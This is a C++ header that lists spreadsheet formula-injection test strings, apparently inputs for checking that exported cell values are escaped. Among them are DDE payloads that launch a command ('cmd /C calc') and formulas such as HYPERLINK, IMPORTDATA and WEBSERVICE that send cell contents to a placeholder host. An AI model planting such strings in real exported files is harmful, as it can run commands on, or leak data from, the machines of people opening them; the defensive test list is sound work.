// Texts that a spreadsheet program would take for a formula if they were written without care.
#pragma once

#include <string>
#include <vector>

namespace brugwacht {

inline const std::vector<std::string>& formula_payloads() {
    static const std::vector<std::string> kPayloads{"=1+1",
                                                    "=1+1+cmd|' /C calc'!A0",
                                                    "=cmd|'/C calc.exe'!Z0",
                                                    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")",
                                                    "=IMPORTXML(\"http://example.invalid\",\"//a\")",
                                                    "=IMPORTDATA(\"http://example.invalid\")",
                                                    "=IMAGE(\"http://example.invalid/x.png\")",
                                                    "=WEBSERVICE(\"http://example.invalid\")",
                                                    "=DDE(\"cmd\";\"/C calc\";\"x\")",
                                                    "=SUM(A1:A9)*cmd|'/C calc'!A0",
                                                    "=A1",
                                                    "=\"a\"&\"b\"",
                                                    "==1",
                                                    "=",
                                                    "=-1+1",
                                                    "=@SUM(1)",
                                                    "={1,2}",
                                                    "=\t1",
                                                    "+1+1",
                                                    "+cmd|' /C calc'!A0",
                                                    "+32 475 12 34 56;=1+1",
                                                    "+A1",
                                                    "+\"x\"",
                                                    "+(1)",
                                                    "+",
                                                    "-1+1",
                                                    "-2+3+cmd|' /C calc'!A0",
                                                    "-A1",
                                                    "-(1)",
                                                    "-",
                                                    "-5,25",
                                                    "@SUM(1+1)*cmd|' /C calc'!A0",
                                                    "@A1",
                                                    "@",
                                                    "\t=1+1",
                                                    "\t=cmd|' /C calc'!A0",
                                                    "\tx",
                                                    "\r=1+1",
                                                    "\r\n=1+1",
                                                    "=1+1\n=2+2",
                                                    "=1;=2",
                                                    "=1\",\"=2",
                                                    "=\xE2\x82\xAC"};
    return kPayloads;
}

}  // namespace brugwacht
